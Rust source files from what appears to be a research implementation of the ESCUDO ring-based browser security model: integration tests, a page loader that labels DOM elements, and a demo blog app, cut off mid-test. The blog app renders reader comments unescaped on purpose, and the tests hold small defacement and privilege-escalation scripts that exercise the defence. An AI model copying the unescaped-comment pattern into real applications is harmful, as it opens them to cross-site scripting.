            <div ring=3 r=3 w=3 x=3 id=user>
              <script>document.getElementById('user').setAttribute('ring', '0');</script>
            </div>
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        let page = browser.navigate("http://app.example/").unwrap();
        assert!(browser.page(page).any_script_denied());
        // The label table still holds ring 3 for the element.
        let doc = &browser.page(page).document;
        let user = doc.get_element_by_id("user").unwrap();
        assert_eq!(
            browser.page(page).contexts.node_label(user).ring,
            escudo_core::Ring::new(3)
        );
    }

    #[test]
    fn sessions_sharing_a_jar_see_each_others_cookies() {
        use escudo_core::engine_for_mode;
        use escudo_net::SharedCookieJar;

        struct SetThenEcho;
        impl Server for SetThenEcho {
            fn handle(&mut self, req: &Request) -> Response {
                if req.url.path() == "/login.php" {
                    Response::ok_html("<html><body ring=1>in</body></html>")
                        .with_cookie(escudo_net::SetCookie::new("sid", "shared"))
                } else {
                    Response::ok_html("<html><body ring=1>page</body></html>")
                }
            }
        }

        let jar = Arc::new(SharedCookieJar::new());
        let engine = engine_for_mode(PolicyMode::Escudo);

        // Session A logs in; the cookie lands in the shared jar.
        let mut a = Browser::with_jar(Arc::clone(&engine), Arc::clone(&jar));
        a.network_mut().register("http://app.example", SetThenEcho);
        a.navigate("http://app.example/login.php").unwrap();
        assert_eq!(jar.get("app.example", "sid").unwrap().value, "shared");

        // Session B (own browser, own network) shares the jar: its request to the
        // same host attaches the session cookie session A established.
        let mut b = Browser::with_jar(engine, jar);
        b.network_mut().register("http://app.example", SetThenEcho);
        b.navigate("http://app.example/index.php").unwrap();
        let log = b.network().log();
        assert_eq!(log.last().unwrap().cookie_names, vec!["sid"]);

        // A browser built through `with_engine` keeps a private jar.
        let mut lone = Browser::new(PolicyMode::Escudo);
        lone.network_mut()
            .register("http://app.example", SetThenEcho);
        lone.navigate("http://app.example/index.php").unwrap();
        assert!(lone.network().log().last().unwrap().cookie_names.is_empty());
    }

    #[test]
    fn subresource_loader_records_document_order_and_stats() {
        use std::time::Duration;

        let html = r#"<html><body ring=1>
            <img src="http://img0.example/a.png">
            <img src="http://img1.example/b.png">
            <img src="http://img0.example/c.png">
            <img src="http://missing.example/d.png">
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        for host in ["http://img0.example", "http://img1.example"] {
            browser.network_mut().register(host, |req: &Request| {
                Response::ok_text(format!("img {}", req.url.path()))
            });
        }
        // Skew the latencies so the *first* image is the slowest: under the
        // pipelined loader it completes last, but outcomes and the
        // sequence-sorted log must still read in document order.
        browser
            .fabric()
            .set_latency("http://img0.example", Duration::from_millis(3));
        assert_eq!(browser.subresource_workers(), DEFAULT_SUBRESOURCE_WORKERS);

        let page = browser.navigate("http://app.example/index.php").unwrap();
        let page = browser.page(page);
        // The unregistered host is filtered at plan time; three fetches dispatch.
        assert_eq!(page.stats.subresource_requests, 3);
        assert_eq!(page.subresources.len(), 3);
        assert!(page.stats.subresource_fetch_ns > 0);
        let urls: Vec<String> = page
            .subresources
            .iter()
            .map(|s| s.url.to_string())
            .collect();
        assert_eq!(
            urls,
            vec![
                "http://img0.example/a.png",
                "http://img1.example/b.png",
                "http://img0.example/c.png",
            ]
        );
        assert!(page.subresources.iter().all(SubresourceOutcome::succeeded));
        // Sequence-sorted shared log: the main page, then the images in document
        // order — completion order is irrelevant.
        let paths: Vec<String> = browser
            .network()
            .log()
            .iter()
            .map(|e| e.url.path().to_string())
            .collect();
        assert_eq!(paths, vec!["/index.php", "/a.png", "/b.png", "/c.png"]);
    }

    #[test]
    fn critical_resources_ride_the_navigation_lane_ahead_of_images() {
        use crate::page::SubresourceKind;

        // Document order interleaves an image between the critical resources;
        // the plan still puts both critical fetches first.
        let html = r#"<html><head>
            <link rel="stylesheet" href="http://assets.example/site.css">
        </head><body ring=1>
            <img src="http://assets.example/banner.png">
            <script src="http://assets.example/app.js"></script>
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        browser
            .network_mut()
            .register("http://assets.example", |req: &Request| {
                Response::ok_text(format!("asset {}", req.url.path()))
            });

        let page = browser.navigate("http://app.example/index.php").unwrap();
        let page = browser.page(page);
        let plan: Vec<(SubresourceKind, String)> = page
            .subresources
            .iter()
            .map(|s| (s.kind, s.url.path().to_string()))
            .collect();
        assert_eq!(
            plan,
            vec![
                (SubresourceKind::Critical, "/site.css".to_string()),
                (SubresourceKind::Critical, "/app.js".to_string()),
                (SubresourceKind::Image, "/banner.png".to_string()),
            ]
        );
        assert!(page.subresources.iter().all(SubresourceOutcome::succeeded));
        // The sequence-sorted log reads in plan order: critical lane first.
        let paths: Vec<String> = browser
            .network()
            .log()
            .iter()
            .map(|e| e.url.path().to_string())
            .collect();
        assert_eq!(
            paths,
            vec!["/index.php", "/site.css", "/app.js", "/banner.png"]
        );
    }

    #[test]
    fn prefetch_hint_serves_the_next_navigation_from_cache() {
        let html = concat!(
            "<html><head>",
            r#"<link rel="prefetch" href="/next.php">"#,
            "</head><body ring=1>hub</body></html>"
        );
        let mut browser = browser_with(PolicyMode::Escudo, html);

        // Speculation is a per-session opt-in: a default session never touches
        // the prefetch cache.
        browser.navigate("http://app.example/hub.php").unwrap();
        assert_eq!(browser.fabric().prefetched_entries(), 0);
        assert!(!browser.prefetch("http://app.example/next.php"));

        browser.set_prefetch_enabled(true);
        let hub = browser.navigate("http://app.example/hub.php").unwrap();
        assert_eq!(browser.page(hub).stats.prefetch_issued, 1);
        assert!(!browser.page(hub).stats.prefetch_hit);
        assert_eq!(browser.fabric().prefetched_entries(), 1);

        // The speculative fetch is unlogged; the log grows only when the hit
        // is consumed — under the navigation's own sequence number.
        let logged_before = browser.network().log().len();
        let next = browser.navigate("http://app.example/next.php").unwrap();
        assert!(browser.page(next).stats.prefetch_hit);
        assert_eq!(browser.prefetch_hits(), 1);
        assert_eq!(browser.fabric().prefetch_hits(), 1);
        assert_eq!(browser.fabric().prefetched_entries(), 0);
        let log = browser.network().log();
        assert_eq!(log.len(), logged_before + 1);
        assert_eq!(log.last().unwrap().url.path(), "/next.php");

        // The explicit API refills the cache for the next repeat navigation.
        assert!(browser.prefetch("http://app.example/next.php"));
        assert_eq!(browser.fabric().prefetched_entries(), 1);
        assert!(!browser.prefetch("http://unregistered.example/x"));
        assert!(!browser.prefetch("not a url"));
    }

    #[test]
    fn visited_anchors_feed_the_prefetch_predictor() {
        let html = r#"<html><body ring=1>
            <a id=seen href="/seen.php">back</a>
            <a id=new href="/new.php">on</a>
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        browser.set_prefetch_enabled(true);

        // Nothing visited yet: anchors alone predict nothing.
        let first = browser.navigate("http://app.example/index.php").unwrap();
        assert_eq!(browser.page(first).stats.prefetch_issued, 0);

        // After visiting /seen.php, re-loading the hub speculates on it (and
        // only it — /new.php was never visited).
        browser.navigate("http://app.example/seen.php").unwrap();
        let again = browser.navigate("http://app.example/index.php").unwrap();
        assert_eq!(browser.page(again).stats.prefetch_issued, 1);
        assert_eq!(browser.fabric().prefetched_entries(), 1);
        let hit = browser.navigate("http://app.example/seen.php").unwrap();
        assert!(browser.page(hit).stats.prefetch_hit);
    }

    #[test]
    fn sessions_sharing_a_fabric_share_servers_and_log() {
        let fabric = Arc::new(SharedNetwork::new());
        let engine = engine_for_mode(PolicyMode::Escudo);
        let jar = Arc::new(SharedCookieJar::new());
        let mut a =
            Browser::with_network(Arc::clone(&engine), Arc::clone(&jar), Arc::clone(&fabric));
        a.network_mut().register(
            "http://app.example",
            Static("<html><body ring=1>shared</body></html>".to_string()),
        );
        // Session B registered nothing, but reaches session A's server through the
        // shared fabric — and both sessions read one request log.
        let mut b = Browser::with_network(engine, jar, fabric);
        b.navigate("http://app.example/from-b.php").unwrap();
        assert_eq!(a.network().log().len(), 1);
        assert_eq!(a.network().count_requests_to("app.example"), 1);
        assert_eq!(a.network().log()[0].url.path(), "/from-b.php");
    }

    #[test]
    fn tenant_bound_session_observes_hot_reload_at_the_next_navigation() {
        use escudo_core::tenant::{Tenant, TenantConfig};

        let html = r#"<html><body ring=1 r=1 w=1 x=1>
            <div ring=1 r=1 w=1 x=1 id=post>Original</div>
            <div ring=3 r=3 w=3 x=3 id=comment>
              <script>document.getElementById('post').innerHTML = 'defaced';</script>
            </div>
        </body></html>"#;
        let tenant = Arc::new(Tenant::new("acme", TenantConfig::default()));
        let mut browser = Browser::with_tenant(Arc::clone(&tenant));
        browser
            .network_mut()
            .register("http://app.example", Static(html.to_string()));
        assert_eq!(browser.tenant().unwrap().id(), "acme");
        assert_eq!(browser.mode(), PolicyMode::Escudo);

        // Generation 1 (ESCUDO): the ring-3 script is denied.
        let page = browser.navigate("http://app.example/").unwrap();
        assert!(browser.page(page).any_script_denied());
        assert_eq!(
            browser.page(page).text_of("post").as_deref(),
            Some("Original")
        );

        // The control plane hot-reloads the tenant to the SOP baseline. The
        // already-loaded page is untouched; the *next* navigation pins the new
        // generation and the same attack now succeeds.
        tenant.reload_with(
            TenantConfig::default()
                .with_mode(PolicyMode::SameOriginOnly)
                .build_engine(),
        );
        let page = browser.navigate("http://app.example/").unwrap();
        assert!(!browser.page(page).any_script_denied());
        assert_eq!(
            browser.page(page).text_of("post").as_deref(),
            Some("defaced")
        );
        assert_eq!(browser.mode(), PolicyMode::SameOriginOnly);
        assert_eq!(tenant.generation(), 2);
    }

    #[test]
    fn tenant_admission_sheds_navigation_mediation() {
        use escudo_core::tenant::{Tenant, TenantConfig};
        use escudo_net::SetCookie;

        struct SetThenEcho;
        impl Server for SetThenEcho {
            fn handle(&mut self, req: &Request) -> Response {
                if req.url.path() == "/login.php" {
                    Response::ok_html("<html><body ring=1>in</body></html>")
                        .with_cookie(SetCookie::new("sid", "s1"))
                } else {
                    Response::ok_html("<html><body ring=1>page</body></html>")
                }
            }
        }

        // One token, no refill: the login's cookie mediation (zero candidates —
        // free) stores the cookie; the next navigation's single-cookie plan
        // consumes the token; the one after that is shed and attaches nothing.
        let tenant = Arc::new(Tenant::new(
            "metered",
            TenantConfig::default().with_admission(1, 0),
        ));
        let mut browser = Browser::with_tenant(Arc::clone(&tenant));
        browser
            .network_mut()
            .register("http://app.example", SetThenEcho);
        browser.navigate("http://app.example/login.php").unwrap();
        browser.navigate("http://app.example/a.php").unwrap();
        let log = browser.network().log();
        assert_eq!(log.last().unwrap().cookie_names, vec!["sid"]);

        browser.navigate("http://app.example/b.php").unwrap();
        let log = browser.network().log();
        assert!(log.last().unwrap().cookie_names.is_empty());
        let stats = tenant.admission().stats();
        assert_eq!((stats.admitted, stats.rejected), (1, 1));
    }

    #[test]
    fn missing_pages_and_elements_are_reported() {
        let mut browser = browser_with(PolicyMode::Escudo, "<html><body ring=1></body></html>");
        let page = browser.navigate("http://app.example/").unwrap();
        assert!(matches!(
            browser.fire_event(page, "ghost", EventType::Click),
            Err(BrowserError::NoSuchElement(_))
        ));
        assert!(matches!(
            browser.click_link(page, "ghost"),
            Err(BrowserError::NoSuchElement(_))
        ));
        assert!(browser.navigate("http://unregistered.example/").is_err());
        assert!(browser.navigate("not a url").is_err());
    }
}
