//! The page loader: parse, then extract the security contexts **exactly once**.
//!
//! The extraction step implements §4.1 and §5 of the paper:
//!
//! * AC attributes (`ring`, `r`, `w`, `x`) may appear on any element (the case studies
//!   label `body` directly, not only `div`s);
//! * the **scoping rule** clamps every nested declaration to its enclosing scope;
//! * missing specifications fail safe (least-privileged ring, ring-0-only ACL);
//! * cookie and native-API rings come from the optional HTTP headers;
//! * a page with *no* ESCUDO configuration at all is a legacy page: it collapses to a
//!   single fully-privileged ring, i.e. exactly the same-origin policy;
//! * the mapping is performed once, on a table the DOM cannot reach, so later
//!   `setAttribute` calls cannot re-map anything.

use std::time::Instant;

use escudo_core::config::{AcAttributes, ResolvedLabel};
use escudo_core::{PolicyMode, Ring};
use escudo_dom::{Document, NodeId};
use escudo_html::{parse_document, ParseOptions};
use escudo_net::{Response, Url};

use crate::context::SecurityContextTable;
use crate::page::{Page, PageLoadStats, ScriptUnit};
use crate::render::{RenderStats, Renderer};

/// Options controlling a page load.
#[derive(Debug, Clone, Copy)]
pub struct LoadOptions {
    /// The policy mode the browser is enforcing.
    pub mode: PolicyMode,
    /// Viewport width handed to the renderer.
    pub viewport_width: u32,
}

impl Default for LoadOptions {
    fn default() -> Self {
        LoadOptions {
            mode: PolicyMode::Escudo,
            viewport_width: 1024,
        }
    }
}

/// The page loader. Stateless; all state lives in the returned [`Page`].
#[derive(Debug, Clone, Default)]
pub struct PageLoader;

impl PageLoader {
    /// Builds a [`Page`] from a fetched response.
    ///
    /// Scripts are collected but **not** executed here — execution needs network and
    /// cookie access and is driven by [`Browser`](crate::Browser).
    #[must_use]
    pub fn load(url: &Url, response: &Response, options: &LoadOptions) -> Page {
        let origin = url.origin();

        // 1. Parse. Nonce validation is an ESCUDO behaviour; the legacy baseline
        //    accepts forged end tags (which is what makes node splitting work there).
        let parse_options = match options.mode {
            PolicyMode::Escudo => ParseOptions::default(),
            PolicyMode::SameOriginOnly => ParseOptions::legacy(),
        };
        let parse_start = Instant::now();
        let parsed = parse_document(&response.body, &parse_options);
        let parse_ns = parse_start.elapsed().as_nanos();
        let document = parsed.document;

        // 2–3. Security-context extraction is ESCUDO bookkeeping; a legacy (SOP-only)
        // browser ignores the AC attributes and policy headers entirely, which is
        // exactly the baseline Figure 4 compares against.
        let (legacy, contexts, label_ns) = match options.mode {
            PolicyMode::Escudo => {
                let label_start = Instant::now();
                let has_header_config =
                    !response.cookie_policies().is_empty() || !response.api_policies().is_empty();
                // Cheap scan: an AC tag declares at least one of ring/r/w/x.
                let has_ac_tags = document.all_elements().iter().any(|&node| {
                    document
                        .attributes(node)
                        .iter()
                        .any(|(name, _)| matches!(name.as_str(), "ring" | "r" | "w" | "x"))
                });
                let legacy = !(has_ac_tags || has_header_config);
                let mut contexts = SecurityContextTable::new(origin.clone(), legacy);
                label_document(&document, &mut contexts);
                for policy in response.cookie_policies() {
                    contexts.add_cookie_policy(policy);
                }
                for policy in response.api_policies() {
                    contexts.set_api_ring(policy);
                }
                (legacy, contexts, label_start.elapsed().as_nanos())
            }
            PolicyMode::SameOriginOnly => {
                // Everything runs with the origin's full authority, as under the SOP.
                (true, SecurityContextTable::new(origin.clone(), true), 0)
            }
        };

        // 4. Collect scripts (inline `script` elements) in document order, each bound
        //    to the ring of the scope it appears in — and the page's `rel=prefetch`
        //    speculation hints, which the browser's predictor feeds to the fetch
        //    scheduler's background lane.
        let scripts = collect_scripts(&document, &contexts);
        let prefetch_hints = escudo_html::prefetch_links(&document)
            .into_iter()
            .map(|(_, href)| href)
            .collect();

        // 5. Render.
        let render_start = Instant::now();
        let renderer = Renderer::new(options.viewport_width);
        let (_display_list, render_stats) = renderer.layout(&document);
        let render_ns = render_start.elapsed().as_nanos();

        Page {
            url: url.clone(),
            origin,
            document,
            contexts,
            scripts,
            script_outcomes: Vec::new(),
            subresources: Vec::new(),
            prefetch_hints,
            parse_report: parsed.report,
            render_stats,
            stats: PageLoadStats {
                parse_ns,
                label_ns,
                render_ns,
                ..PageLoadStats::default()
            },
            legacy,
        }
    }

    /// Re-runs layout on an already-loaded page (used after scripts mutate the DOM).
    pub fn rerender(page: &mut Page, viewport_width: u32) -> RenderStats {
        let start = Instant::now();
        let renderer = Renderer::new(viewport_width);
        let (_boxes, stats) = renderer.layout(&page.document);
        page.stats.render_ns += start.elapsed().as_nanos();
        page.render_stats = stats;
        stats
    }
}

/// Walks the document once, assigning every element its resolved label according to
/// the scoping rule and the fail-safe defaults.
fn label_document(document: &Document, contexts: &mut SecurityContextTable) {
    // (node, inherited label from the nearest enclosing AC scope, if any)
    let mut stack: Vec<(NodeId, Option<ResolvedLabel>)> = document
        .children(document.root())
        .map(|child| (child, None))
        .collect();
    // Depth-first; order of labelling does not matter, only parentage.
    while let Some((node, inherited)) = stack.pop() {
        let label_for_children = if document.element(node).is_some() {
            let attrs = AcAttributes::parse(
                document
                    .attributes(node)
                    .iter()
                    .map(|(n, v)| (n.as_str(), v.as_str())),
            )
            .unwrap_or_default();
            let label = if attrs.is_ac_tag() {
                // The scope bound is the enclosing AC scope's ring; outside any scope
                // the application's own markup is the page itself (ring 0).
                let bound = inherited.map_or(Ring::INNERMOST, |l| l.ring);
                attrs.resolve(bound)
            } else {
                inherited.unwrap_or_else(|| contexts.default_label())
            };
            contexts.set_node_label(node, label);
            if attrs.is_ac_tag() {
                Some(label)
            } else {
                inherited
            }
        } else {
            // Text/comment nodes take the enclosing label implicitly via their parent
            // element; no entry is needed.
            inherited
        };
        for child in document.children(node) {
            stack.push((child, label_for_children));
        }
    }
}

/// Labels a subtree created at run time (via the DOM API or `innerHTML`): every new
/// node is clamped to the creator's ring and the insertion parent's ring, per §5.
pub(crate) fn label_dynamic_subtree(
    document: &Document,
    contexts: &mut SecurityContextTable,
    root: NodeId,
    creator_ring: Ring,
    parent_ring: Ring,
) {
    let base =
        escudo_core::scoping::effective_ring_for_dynamic_content(creator_ring, parent_ring, None);
    let mut stack = vec![(root, base)];
    while let Some((node, bound)) = stack.pop() {
        let ring = if document.element(node).is_some() {
            let attrs = AcAttributes::parse(
                document
                    .attributes(node)
                    .iter()
                    .map(|(n, v)| (n.as_str(), v.as_str())),
            )
            .unwrap_or_default();
            // Declared rings can only drop privilege relative to the clamp.
            let ring = escudo_core::scoping::effective_ring(bound, attrs.ring);
            contexts.set_node_label(
                node,
                ResolvedLabel {
                    ring,
                    acl: escudo_core::Acl::uniform(ring),
                },
            );
            ring
        } else {
            bound
        };
        for child in document.children(node) {
            stack.push((child, ring));
        }
    }
}

/// Collects inline scripts in document order.
fn collect_scripts(document: &Document, contexts: &SecurityContextTable) -> Vec<ScriptUnit> {
    document
        .elements_by_tag_name("script")
        .into_iter()
        .filter_map(|node| {
            let source = document.text_content(node);
            if source.trim().is_empty() {
                return None;
            }
            Some(ScriptUnit {
                node,
                source,
                ring: contexts.node_label(node).ring,
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_core::Acl;
    use escudo_net::Response;

    fn load(html: &str, mode: PolicyMode) -> Page {
        let url = Url::parse("http://app.example/index.php").unwrap();
        let response = Response::ok_html(html);
        PageLoader::load(
            &url,
            &response,
            &LoadOptions {
                mode,
                viewport_width: 1024,
            },
        )
    }

    #[test]
    fn legacy_pages_collapse_to_a_single_privileged_ring() {
        let page = load(
            "<html><body><p id=x>hi</p><script>var a = 1;</script></body></html>",
            PolicyMode::Escudo,
        );
        assert!(page.legacy);
        let x = page.document.get_element_by_id("x").unwrap();
        let label = page.contexts.node_label(x);
        assert_eq!(label.ring, Ring::INNERMOST);
        assert_eq!(label.acl, Acl::permissive());
        assert_eq!(page.scripts.len(), 1);
        assert_eq!(page.scripts[0].ring, Ring::INNERMOST);
    }

    #[test]
    fn ac_tags_assign_rings_and_acls() {
        let html = r#"<html><body ring=1 r=1 w=1 x=1>
            <div id=app>app content</div>
            <div ring=3 r=2 w=2 x=2 id=user>user content<script>var x=1;</script></div>
        </body></html>"#;
        let page = load(html, PolicyMode::Escudo);
        assert!(!page.legacy);
        let body = page.document.elements_by_tag_name("body")[0];
        assert_eq!(page.contexts.node_label(body).ring, Ring::new(1));
        // Non-AC children inherit the enclosing scope.
        let app = page.document.get_element_by_id("app").unwrap();
        assert_eq!(page.contexts.node_label(app).ring, Ring::new(1));
        assert_eq!(
            page.contexts.node_label(app).acl,
            Acl::uniform(Ring::new(1))
        );
        // Nested AC tag takes its declared (less privileged) ring and ACL.
        let user = page.document.get_element_by_id("user").unwrap();
        assert_eq!(page.contexts.node_label(user).ring, Ring::new(3));
        assert_eq!(
            page.contexts.node_label(user).acl,
            Acl::uniform(Ring::new(2)).clamped_to_ring(Ring::new(3))
        );
        // The script inside the user region runs at ring 3.
        assert_eq!(page.scripts.len(), 1);
        assert_eq!(page.scripts[0].ring, Ring::new(3));
    }

    #[test]
    fn scoping_rule_clamps_privilege_escalating_inner_scopes() {
        let html = r#"<html><body ring=2 r=2 w=2 x=2>
            <div ring=0 r=0 w=0 x=0 id=sneaky>wants ring 0</div>
        </body></html>"#;
        let page = load(html, PolicyMode::Escudo);
        let sneaky = page.document.get_element_by_id("sneaky").unwrap();
        assert_eq!(page.contexts.node_label(sneaky).ring, Ring::new(2));
    }

    #[test]
    fn unlabelled_content_in_a_configured_page_fails_safe() {
        let html = r#"<html><body>
            <div ring=1 r=1 w=1 x=1 id=app>app</div>
            <p id=stray>outside any AC scope</p>
        </body></html>"#;
        let page = load(html, PolicyMode::Escudo);
        let stray = page.document.get_element_by_id("stray").unwrap();
        let label = page.contexts.node_label(stray);
        assert_eq!(label.ring, Ring::OUTERMOST);
        assert_eq!(label.acl, Acl::ring_zero_only());
    }

    #[test]
    fn escudo_headers_configure_cookies_and_apis() {
        let url = Url::parse("http://app.example/").unwrap();
        let response = Response::ok_html("<html><body ring=1><p>x</p></body></html>")
            .with_cookie_policy(&escudo_core::config::CookiePolicy::new("sid", Ring::new(1)))
            .with_api_policy(&escudo_core::config::ApiPolicy::new(
                escudo_core::config::NativeApi::XmlHttpRequest,
                Ring::new(1),
            ));
        let page = PageLoader::load(&url, &response, &LoadOptions::default());
        assert!(!page.legacy);
        assert_eq!(
            page.contexts.cookie_policy("sid").unwrap().ring,
            Ring::new(1)
        );
        assert_eq!(
            page.contexts
                .api_ring(escudo_core::config::NativeApi::XmlHttpRequest),
            Ring::new(1)
        );
    }

    #[test]
    fn header_only_configuration_still_marks_the_page_as_escudo() {
        let url = Url::parse("http://app.example/").unwrap();
        let response = Response::ok_html("<html><body><p>plain</p></body></html>")
            .with_cookie_policy(&escudo_core::config::CookiePolicy::new("sid", Ring::new(1)));
        let page = PageLoader::load(&url, &response, &LoadOptions::default());
        assert!(!page.legacy);
    }

    #[test]
    fn scripts_are_collected_in_document_order_with_their_rings() {
        let html = r#"<html>
          <head><div ring=0 r=0 w=0 x=0><script>var first = 1;</script></div></head>
          <body ring=1 r=1 w=1 x=1>
            <script>var second = 2;</script>
            <div ring=3 r=3 w=3 x=3><script>var third = 3;</script></div>
          </body></html>"#;
        let page = load(html, PolicyMode::Escudo);
        assert_eq!(page.scripts.len(), 3);
        assert!(page.scripts[0].source.contains("first"));
        assert_eq!(page.scripts[0].ring, Ring::new(0));
        assert_eq!(page.scripts[1].ring, Ring::new(1));
        assert_eq!(page.scripts[2].ring, Ring::new(3));
    }

    #[test]
    fn dynamic_subtrees_are_clamped_to_their_creator() {
        let html = r#"<html><body ring=1 r=1 w=1 x=1><div id=target></div></body></html>"#;
        let mut page = load(html, PolicyMode::Escudo);
        let target = page.document.get_element_by_id("target").unwrap();
        // Simulate a ring-3 script creating <div ring=0><b>x</b></div> under target.
        let injected = page
            .document
            .create_element_with_attrs("div", &[("ring", "0")]);
        let bold = page.document.create_element("b");
        page.document.append_child(injected, bold).unwrap();
        page.document.append_child(target, injected).unwrap();
        let target_ring = page.contexts.node_label(target).ring;
        label_dynamic_subtree(
            &page.document,
            &mut page.contexts,
            injected,
            Ring::new(3),
            target_ring,
        );
        assert_eq!(page.contexts.node_label(injected).ring, Ring::new(3));
        assert_eq!(page.contexts.node_label(bold).ring, Ring::new(3));
    }

    #[test]
    fn load_stats_are_populated() {
        let page = load(
            "<html><body ring=1><p>text</p></body></html>",
            PolicyMode::Escudo,
        );
        assert!(page.stats.parse_ns > 0);
        assert!(page.render_stats.boxes > 0);
    }

    #[test]
    fn sop_mode_does_not_reject_nonce_mismatches() {
        let html = r#"<html><body><div ring=3 nonce=5>x</div><p id=after>y</p></body></html>"#;
        let escudo_page = load(html, PolicyMode::Escudo);
        let sop_page = load(html, PolicyMode::SameOriginOnly);
        // Under ESCUDO the </div> without a nonce is rejected, so `after` stays inside.
        assert_eq!(escudo_page.parse_report.rejected_end_tags, 1);
        assert_eq!(sop_page.parse_report.rejected_end_tags, 0);
    }
}
