//! The blog application of the paper's Figure 3 and the introduction's advertising
//! scenario.
//!
//! The page has three trust levels: the publisher's own content (ring 1), a leased
//! advertising slot filled with a third-party script (ring 2), and reader comments
//! (ring 3). The quickstart example and the `ad_sandbox` example are built on this
//! application.

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi};
use escudo_core::{Acl, Ring};
use escudo_net::{Request, Response, Server, SetCookie, StatusCode};

use crate::markup::AcMarkup;
use crate::session::SessionStore;
use crate::template::html_escape;

/// The blog's session cookie.
pub const BLOG_COOKIE: &str = "blog_session";

/// A reader comment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Comment {
    /// Comment id.
    pub id: usize,
    /// Author name (free text).
    pub author: String,
    /// Comment body (raw, as submitted).
    pub body: String,
}

/// Server-side state of the blog.
#[derive(Debug)]
pub struct BlogState {
    /// The original post body (the publisher's content).
    pub post: String,
    /// Reader comments.
    pub comments: Vec<Comment>,
    /// Sessions (for posting comments).
    pub sessions: SessionStore,
}

/// The blog application.
pub struct BlogApp {
    escudo: bool,
    input_validation: bool,
    /// The third-party advertisement script inlined into the leased slot (ring 2).
    ad_script: String,
    state: Arc<Mutex<BlogState>>,
}

impl fmt::Debug for BlogApp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("BlogApp")
            .field("escudo", &self.escudo)
            .field("input_validation", &self.input_validation)
            .finish()
    }
}

impl BlogApp {
    /// Creates a blog with ESCUDO configuration on and input validation off (the
    /// configuration used by the examples, which want to demonstrate the browser-side
    /// defense rather than server-side filtering).
    #[must_use]
    pub fn new() -> Self {
        BlogApp {
            escudo: true,
            input_validation: false,
            ad_script: "var banner = document.getElementById('ad-slot-text');\
                        if (banner != null) { banner.innerHTML = 'Buy more rust!'; }"
                .to_string(),
            state: Arc::new(Mutex::new(BlogState {
                post: "ESCUDO adapts protection rings to the web.".to_string(),
                comments: Vec::new(),
                sessions: SessionStore::new(0xB106),
            })),
        }
    }

    /// Disables the ESCUDO configuration (legacy variant).
    #[must_use]
    pub fn legacy() -> Self {
        let mut app = BlogApp::new();
        app.escudo = false;
        app
    }

    /// Replaces the third-party advertisement script (builder style). The introduction
    /// scenario uses this to plant a malicious advertiser script.
    #[must_use]
    pub fn with_ad_script(mut self, script: &str) -> Self {
        self.ad_script = script.to_string();
        self
    }

    /// A handle to the server-side state.
    #[must_use]
    pub fn state(&self) -> Arc<Mutex<BlogState>> {
        Arc::clone(&self.state)
    }

    fn with_policies(&self, response: Response) -> Response {
        if !self.escudo {
            return response;
        }
        response
            .with_cookie_policy(
                &CookiePolicy::new(BLOG_COOKIE, Ring::new(1)).with_acl(Acl::uniform(Ring::new(1))),
            )
            .with_api_policy(&ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)))
            .with_api_policy(&ApiPolicy::new(NativeApi::CookieApi, Ring::new(1)))
    }

    fn render_page(&self) -> Response {
        let mut markup = AcMarkup::new(0xB106, self.escudo);
        let state = self.state.lock().expect("app state lock");

        // The publisher's post: ring 1 content, writable only by ring 0/1.
        let post = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"post\"",
            &format!(
                "<h1>Today's post</h1><p id=\"post-body\">{}</p>",
                html_escape(&state.post)
            ),
        );

        // The leased advertising slot: ring 2 — it may restyle itself but cannot touch
        // the post, the comments' integrity, cookies or XMLHttpRequest.
        let ad = markup.region(
            Ring::new(2),
            Acl::uniform(Ring::new(2)),
            "id=\"ad-slot\"",
            &format!(
                "<span id=\"ad-slot-text\">advertisement</span><script>{}</script>",
                self.ad_script
            ),
        );

        // Reader comments: ring 3, manipulable only from rings 0–2.
        let mut comments = String::new();
        for comment in &state.comments {
            let body = if self.input_validation {
                html_escape(&comment.body)
            } else {
                comment.body.clone()
            };
            comments.push_str(&markup.region(
                Ring::new(3),
                Acl::new(Ring::new(2), Ring::new(2), Ring::new(2)),
                &format!("id=\"comment-{}\" class=\"comment\"", comment.id),
                &format!(
                    "<span class=\"author\">{}</span>: {}",
                    html_escape(&comment.author),
                    body
                ),
            ));
        }

        let app_region = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"app\"",
            &format!(
                "{post}{ad}<div id=\"comments\">{comments}</div>\
                 <form id=\"comment-form\" method=\"post\" action=\"/comment\">\
                   <input type=\"text\" name=\"author\" value=\"\">\
                   <textarea name=\"body\"></textarea>\
                   <input type=\"submit\" value=\"Comment\">\
                 </form>"
            ),
        );
        let body = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            &app_region,
        );
        drop(state);
        self.with_policies(Response::ok_html(format!(
            "<!DOCTYPE html><html><head><title>Blog</title></head>{body}</html>"
        )))
    }
}

impl Default for BlogApp {
    fn default() -> Self {
        BlogApp::new()
    }
}

impl Server for BlogApp {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/login" | "/login.php" => {
                let user = request
                    .param("user")
                    .unwrap_or_else(|| "reader".to_string());
                let sid = self
                    .state
                    .lock()
                    .expect("app state lock")
                    .sessions
                    .create(&user);
                self.with_policies(
                    Response::redirect("/").with_cookie(SetCookie::new(BLOG_COOKIE, sid)),
                )
            }
            "/" | "/index.php" => self.render_page(),
            "/comment" => {
                let author = request
                    .param("author")
                    .unwrap_or_else(|| "anonymous".to_string());
                let body = request.param("body").unwrap_or_default();
                let mut state = self.state.lock().expect("app state lock");
                let id = state.comments.len() + 1;
                state.comments.push(Comment { id, author, body });
                drop(state);
                self.with_policies(Response::redirect("/"))
            }
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn page_contains_three_trust_levels() {
        let mut app = BlogApp::new();
